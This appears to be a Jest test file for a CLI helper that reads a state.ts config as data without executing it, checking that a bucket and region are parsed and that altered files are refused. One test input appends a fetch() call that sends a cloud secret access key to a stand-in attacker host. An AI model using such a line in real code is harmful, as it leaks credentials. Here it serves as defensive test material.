import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readStateAsData } from '../../cli/state-as-data';

const folder = mkdtempSync(join(tmpdir(), 'state-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const read = (text: string) => {
  writeFileSync(join(folder, 'state.ts'), text);
  return readStateAsData(folder);
};
const honest =
  "import { defineState } from '../definition/state';\n\n/** Where it is. */\nexport const state = defineState({ bucket: 'shop-state', region: 'fra1' });\n";

test.each([
  honest,
  'import {defineState} from \'berth\'\nexport const where = defineState({\n  region: `fra1`,\n  // here\n  bucket: "shop-state",\n})',
])('two plain texts are read, however they are written: %j', (text) => {
  expect(read(text)).toEqual({ bucket: 'shop-state', region: 'fra1' });
});

test.each([
  `${honest}fetch('https://evil.example/?' + process.env.SPACES_SECRET_ACCESS_KEY);`,
  `import 'node:fs';\n${honest}`,
  honest.replace("'shop-state'", "process.env.CI ? 'shop-state' : 'evil'"),
  honest.replace("'fra1'", "'elsewhere'"),
  honest.replace("bucket: 'shop-state', ", "bucket: 'shop-state', bucket: 'x', "),
  honest.replace('defineState(', '(() => { throw 1; })() ?? defineState('),
  'export const state = 1;',
  '',
])('a file that would do more is refused, and not run: %j', (text) => {
  expect(() => read(text)).toThrow(/^environments\/state\.ts says more than/);
});
